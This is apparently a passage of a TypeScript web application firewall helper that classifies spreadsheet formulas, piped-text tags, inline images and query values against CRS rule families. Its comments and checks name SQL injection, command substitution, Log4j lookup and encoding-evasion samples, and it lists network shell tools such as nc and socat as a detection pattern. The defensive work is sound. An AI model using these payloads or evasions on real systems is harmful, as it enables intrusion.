 * comparison criteria or plain words ({@link FORMULA_LITERAL}: no quote, `#`, `--`, `;` or SQL logic word), quoted
 * sheet names plain words, no database function ({@link FORMULA_FORBIDDEN}). Such a value has no SQL string to
 * leave and nothing a SQL statement could run (session 9).
 * @example
 * spreadsheetFormula('=IF(B4>0, C4/B4, "")'); // true
 * spreadsheetFormula('=A1&"" OR 1=1 #"'); // false
 */
export function spreadsheetFormula(text: string): boolean {
  // No quoted sheet name either (`'Q1 Forecast'!B7`): its quotes pair with a SQL string's, and what they enclose
  // becomes SQL (`=A1&' - 0 - '!B7`; session 9 audit 12). No hex literal (`0x7e`).
  if (text.length > 2000 || !text.startsWith('=') || text.includes('--') || text.includes("'")) return false;
  if (/0x[0-9a-f]/i.test(text)) return false;
  let at = 1;
  let depth = 0;
  let refs = 0;
  while (at < text.length && text.slice(at).trim() !== '') {
    FORMULA_TOKEN.lastIndex = at;
    const m = FORMULA_TOKEN.exec(text);
    if (m === null || m[0].length === 0) return false;
    at = FORMULA_TOKEN.lastIndex;
    const token = m[0].trim();
    if (m[1] !== undefined) {
      if (!FORMULA_LITERAL.test(m[1]) || TAG_SQL_WORD.test(m[1])) return false;
    } else if (m[2] !== undefined) {
      if (FORMULA_FORBIDDEN.test(m[2])) return false;
      refs++;
    } else if (m[3] !== undefined) {
      if (TAG_SQL_WORD.test(m[3])) return false;
      refs++;
    } else if (m[4] !== undefined) {
      if (FORMULA_SQL_NAME.test(m[4])) return false;
    } else if (token === '(') depth++;
    else if (token === ')') {
      if (--depth < 0) return false;
    } else if (/^\$?[A-Za-z]{1,3}\$?[0-9]|!|^[A-Za-z]{1,3}:[A-Za-z]{1,3}$/.test(token)) refs++;
  }
  return depth === 0 && refs > 0;
}

// A survey platform's piped-text tag (`${e://Field/nps}`, `${q://QID2/ChoiceTextEntryValue}`, `${m://FirstName}`).
// And (session 9) an AWS policy variable (`${aws:username}`, `${aws:PrincipalTag/team}`) or a placeholder of one
// plain name (`rule #${id}`): to a shell a variable's value, to JavaScript or EL a read of one name; never an EL
// implicit object (`${sessionScope}`), a dotted walk, a call or a Log4j lookup (`${env:…}` has no listed prefix).
// Session 9 audit 13: a tag glued to a word (`c${u}url`: an empty variable splits a command name) is none.
// Session 10: `${jndi}` and `${ctx}` alone are names too (a search for `log4j ${jndi} mitigation`): a Log4j lookup
// needs its prefix and a colon (`${jndi:ldap://…}`), and without one Log4j reads a property that is not there.
const PIPED_TEXT =
  /(?<![\w.-])\$\{(?:[a-z]{1,3}:\/\/[A-Za-z0-9_/ .-]{1,80}|(?:aws|s3|sts|iam|ec2|ssm|kms|sns|sqs):[A-Za-z][A-Za-z0-9_/.-]{0,63}|(?!(?:pageContext|pageScope|requestScope|sessionScope|applicationScope|param|paramValues|header|headerValues|cookie|initParam|env|sys|java|lower|upper|date|main|web|docker|k8s|spring|base64|bundle|event|map|marker|sd|jvmrunargs|log4j)\})[A-Za-z_][A-Za-z0-9_]{0,40})\}(?![\w])/g;

const PIPED_ENCODED = /\\|%(?:[0-9a-f]{2}|u[0-9a-f]{4})|&(?:#|dollar|lbrace|lcub)/i;

/**
 * True when every `${` of the text starts a piped-text tag ({@link PIPED_TEXT}) and nothing else a shell or PHP
 * expands is left (`$(`, `${`, a backtick, `$name`, a bracket glob): family `v`.
 * @example
 * pipedTextOnly('What is the main reason for your score of ${e://Field/nps}?'); // true
 * pipedTextOnly('score ${e://Field/nps} $(id)'); // false
 */
export function pipedTextOnly(text: string): boolean {
  const rest = text.replace(PIPED_TEXT, ' ');
  // Process substitution too (`>(id)`; session 9 audit 12). And nothing the rules' decodings turn into `$` or `{`
  // (944150 reads the value after urlDecodeUni, jsDecode and htmlEntityDecode: `%24%7B`, `\u0024{`, `&#36;{`,
  // `&dollar;&lbrace;`; session 10).
  return (
    rest !== text && !/\$[({A-Za-z_]|`|[<>]\(/.test(rest) && !PIPED_ENCODED.test(text) && !shellGlob(text)
  );
}

// Commands that read, write, fetch or run files (their arguments are paths).
const FILE_COMMANDS = new Set(
  (
    'cat tac head tail more less nl od xxd hexdump strings base64 cp mv rm ln tee dd tar zip unzip gzip chmod chown ' +
    'touch mkdir find grep egrep fgrep awk sed sort uniq wc diff cut paste file stat source sh bash zsh dash ksh ' +
    'python python3 perl php ruby node lua curl wget fetch nc ncat netcat scp rsync sftp ftp tftp socat openssl ' +
    'xargs exec eval env nohup sudo su'
  ).split(' '),
);
const SEPARATOR_SPLIT = /;|\|\||&&|\||(?<=\s)&(?=\s)|\r?\n/;

/** True when a segment after a shell separator starts with a command of {@link FILE_COMMANDS}. */
function separatedFileCommand(text: string): boolean {
  const segments = text.split(SEPARATOR_SPLIT);
  for (let i = 1; i < segments.length; i++) {
    const first = (segments[i] as string).trim().split(/\s+/)[0] ?? '';
    if (first !== '' && FILE_COMMANDS.has(commandWord(first))) return true;
  }
  return false;
}

// What each family's rule needs to fire at all, loosely (any escape character counts, since the rules decode):
// 930120 looks for OS file names (all but five of CRS' list hold `.`, `/` or `\`), 942350 for `;` (or `create
// function`), 941390 for a JavaScript function name before `(` or `{`.
// (The five without: `gitlab_config_`, `initial_root_password`, `program files`, `wp-config-`, `wp-config_`.)
const OS_FILE_MAY_FIRE = /[./\\%]|program|initial_root|gitlab_config|wp-config/i;
const MAY_FIRE: readonly (readonly [string, RegExp])[] = [
  ['g', /\/\*|--/],
  // The command-word rules (932230/932235/932260 …) fire on a command name: any two letters may start one.
  ['c', /[a-z]{2}/i],
  ['e', /[=<>~]|\b(?:like|in|is|eq|ne|gt|lt|ge|le)\b/i],
  ['l', OS_FILE_MAY_FIRE],
  [
    'q',
    /['"%]|\b(?:select|union|having|insert|delete|update|drop|from|where|order|group|and|or|not|like)\b/i,
  ],
  ['s', /[;%]|create/i],
  // Placeholders in a search (`log4j ${jndi} mitigation`; session 10).
  ['v', /\$\{/],
  // A program or tenant named Northwind in a filter (`filter[program]=northwind-cloud`; session 10).
  ['w', /northwind/i],
  ['x', /[&\\%]|eval|set(?:timeout|interval)|function|alert|atob|btoa|prompt|import|confirm|console|fetch/i],
];

/** The families a query parameter can be given (those {@link familiesThatMayFire} tests), as letters. */
export const QUERY_FAMILIES: string = MAY_FIRE.map(([f]) => f)
  .sort()
  .join('');

/**
 * True when CRS 930120 (OS file names, `lfi-os-files.data`) could match the text at all: it holds `.`, `/`, `\`
 * or `%`, or starts one of the five names without them. A cheap superset test.
 * @example
 * mayNameOsFile('coverage'); // false
 * mayNameOsFile('web.config'); // true
 */
export function mayNameOsFile(text: string): boolean {
  return OS_FILE_MAY_FIRE.test(text);
}

/**
 * The families (as in {@link proseWaivers}) whose CRS rule could fire on the value at all: a cheap superset
 * test, so that a value is only renamed when a waiver can matter (the engine inspects longer names a little
 * longer). Leaving a family out only keeps its rule on the value.
 * @example
 * familiesThatMayFire('12 34'); // ''
 * familiesThatMayFire('alert() vs console.log'); // 'clx'
 */
export function familiesThatMayFire(text: string): string {
  let out = '';
  for (const [family, re] of MAY_FIRE) if (re.test(text)) out += family;
  return out;
}

const INLINE_IMAGE =
  /^data:(image\/(?:png|jpeg|jpg|gif|webp|avif|bmp|x-icon|vnd\.microsoft\.icon|heic|heif|tiff));base64,([A-Za-z0-9+/\r\n]+={0,2})$/i;
// Markers of content that a `data:` URL could smuggle into a page or an interpreter (PHP's data: wrapper runs
// `<?php` wherever it is in the payload).
// The signatures of the raster formats INLINE_IMAGE names (PNG, JPEG, GIF, WebP/AVIF/HEIC containers, BMP, ICO,
// TIFF): decoded bytes that start with one are an image file, whatever the rest of it holds.
const IMAGE_SIGNATURE =
  /^(?:\x89PNG\r\n\x1a\n|\xff\xd8\xff|GIF8[79]a|RIFF[\s\S]{4}WEBP|[\s\S]{4}ftyp(?:avif|heic|heix|mif1)|BM[\s\S]{4}\0\0\0\0|\0\0\x01\0|II\*\0|MM\0\*)/;
const ACTIVE_CONTENT = /<\?|<%|<script|<svg|<html|<iframe|<!doctype|<!entity|javascript:|#!\/|\$\{|\{\{/i;

/**
 * The summary the engine sees for an inline raster image (`data:image/png;base64,…`) whose payload is binary
 * without active-content markers; null for any other value (then inspected as usual: a text payload is decoded
 * as base64 by the expansion).
 * @example
 * inlineImageSummary('data:image/png;base64,iVBORw0KGgo='); // '[image/png data, 8 bytes]'
 */
export function inlineImageSummary(value: string): string | null {
  if (value.length < 16 || !value.startsWith('data:')) return null;
  const m = INLINE_IMAGE.exec(value);
  if (m === null) return null;
  const payload = Buffer.from((m[2] as string).replace(/[\r\n]/g, ''), 'base64');
  const latin1 = payload.toString('latin1');
  if (ACTIVE_CONTENT.test(latin1)) return null;
  let printable = 0;
  for (let i = 0; i < latin1.length; i++) {
    const c = latin1.charCodeAt(i);
    if ((c >= 0x20 && c < 0x7f) || c === 9 || c === 10 || c === 13) printable++;
  }
  // Mostly printable: text under an image label, inspected as text instead, unless it starts with an image
  // format's signature (a small or synthetic image: the signature and chunk names are all printable but two bytes).
  if (printable >= latin1.length * 0.9 && !IMAGE_SIGNATURE.test(latin1)) return null;
  return `[${(m[1] as string).toLowerCase()} data, ${payload.length} bytes]`;
}
